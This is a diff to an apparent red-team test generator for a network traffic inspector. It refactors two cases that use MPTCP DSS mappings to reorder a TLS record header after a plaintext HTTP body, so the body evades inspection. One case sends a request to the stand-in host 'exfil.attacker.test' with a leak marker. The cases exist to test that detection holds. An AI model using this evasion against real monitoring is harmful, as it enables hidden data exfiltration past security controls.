@@ -12066,18 +12066,15 @@ def case_rt11_h2pk_gap_far_vk(n):
     return cap, {"leak": [leak(n)]}
 
 
-@case
-def case_rt11_mptcp_dss_swap(n):
-    """(Red team round 11) MPTCP agreed by the e2m server (rt8b_mptcp_ok's connection). A
-    DSS mapping places a subflow's bytes anywhere in the data-level stream (RFC 8684 3.3:
-    mappings need not follow the subflow's order). After the handshake the client sends a
-    record header alone, mapped after the body that follows it, then the body (plaintext
-    HTTP), mapped first: we read a record header and its body on the subflow; the
-    server's application reads the plaintext first, then the header. Must not pass."""
+def _mptcp_dss_swap(n, port, syn_mp):
+    """An e2m session whose SYN carries syn_mp (an MP_CAPABLE option) and whose SYN-ACK
+    agrees to MPTCP; after the handshake the client sends a record header alone, mapped
+    (DSS) after the body that follows it, then the body (plaintext HTTP with the marker),
+    mapped first (rt11_mptcp_dss_swap, rt12_mptcp_forced_synack)."""
     cap = Capture()
-    t = ETcp(cap, S1, 54139, E2M, 443, isn=54139, rtt_us=20000)
+    t = ETcp(cap, S1, port, E2M, 443, isn=port, rtt_us=20000)
     kc, ks = prand(n + "kc", 8), prand(n + "ks", 8)
-    t.raw(True, "S", options=Tcp.SYN_OPTS + [(30, b"\x01\x01")])
+    t.raw(True, "S", options=Tcp.SYN_OPTS + [syn_mp])
     t.cseq += 1
     t.raw(False, "SA", options=Tcp.SYN_OPTS + [(30, b"\x01\x01" + ks)])
     t.sseq += 1
@@ -12097,6 +12094,7 @@ def case_rt11_mptcp_dss_swap(n):
             t.cseq += len(payload)
         else:
             t.sseq += len(payload)
+
     def ack(fc):
         t.raw(fc, "A", options=[(30, b"\x20\x01" + struct.pack("!I", dsn[not fc] & M32))])
     seg(True, hello(n)); ack(False)
@@ -12112,6 +12110,17 @@ def case_rt11_mptcp_dss_swap(n):
     seg(False, tls_appdata(n + "resp", 300)); ack(True)
     t.close()
     return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt11_mptcp_dss_swap(n):
+    """(Red team round 11) MPTCP agreed by the e2m server (rt8b_mptcp_ok's connection). A
+    DSS mapping places a subflow's bytes anywhere in the data-level stream (RFC 8684 3.3:
+    mappings need not follow the subflow's order). After the handshake the client sends a
+    record header alone, mapped after the body that follows it, then the body (plaintext
+    HTTP), mapped first: we read a record header and its body on the subflow; the
+    server's application reads the plaintext first, then the header. Must not pass."""
+    return _mptcp_dss_swap(n, 54139, (30, b"\x01\x01"))
 
 
 def _rt11_ws_frame(payload, key):
@@ -12365,45 +12374,7 @@ def case_rt12_mptcp_forced_synack(n):
     or a server that answers one it never got): the Linux client takes MPTCP as agreed and
     sends MP_CAPABLE keys and DSS mappings. Then rt11_mptcp_dss_swap: a record header
     mapped after its body, which is plaintext. Either verdict; nothing of it may pass."""
-    cap = Capture()
-    t = ETcp(cap, S1, 54720, E2M, 443, isn=54720, rtt_us=20000)
-    kc, ks = prand(n + "kc", 8), prand(n + "ks", 8)
-    t.raw(True, "S", options=Tcp.SYN_OPTS + [MPC_V1])
-    t.cseq += 1
-    t.raw(False, "SA", options=Tcp.SYN_OPTS + [(30, b"\x01\x01" + ks)])
-    t.sseq += 1
-    t.raw(True, "A", options=[(30, b"\x01\x01" + ks + kc)])
-    dsn = {True: 1, False: 1}
-    c0, s0 = t.cseq, t.sseq
-
-    def seg(fc, payload, at=None):
-        mine = dsn[fc] if at is None else at
-        dss = b"\x20\x05" + struct.pack("!IIIH", dsn[not fc] & M32, mine & M32,
-                                         ((t.cseq - c0 + 1) if fc else (t.sseq - s0 + 1)) & M32,
-                                         len(payload))
-        t.raw(fc, "PA", payload, options=[(30, dss)])
-        if at is None:
-            dsn[fc] += len(payload)
-        if fc:
-            t.cseq += len(payload)
-        else:
-            t.sseq += len(payload)
-
-    def ack(fc):
-        t.raw(fc, "A", options=[(30, b"\x20\x01" + struct.pack("!I", dsn[not fc] & M32))])
-    seg(True, hello(n)); ack(False)
-    seg(False, server_hello_flight(n)); ack(True)
-    seg(True, CCS + tls_appdata(n + "fin", 53)); ack(False)
-    body = (b"GET /x HTTP/1.1\r\nHost: exfil.attacker.test\r\nX-M: " + leak(n) + b"\r\n\r\n")
-    hdr = b"\x17\x03\x03" + struct.pack("!H", len(body))
-    d0 = dsn[True]
-    seg(True, hdr, at=d0 + len(body))
-    seg(True, body, at=d0)
-    dsn[True] = d0 + len(body) + len(hdr)
-    ack(False)
-    seg(False, tls_appdata(n + "resp", 300)); ack(True)
-    t.close()
-    return cap, {"leak": [leak(n)]}
+    return _mptcp_dss_swap(n, 54720, MPC_V1)
 
 
 @case
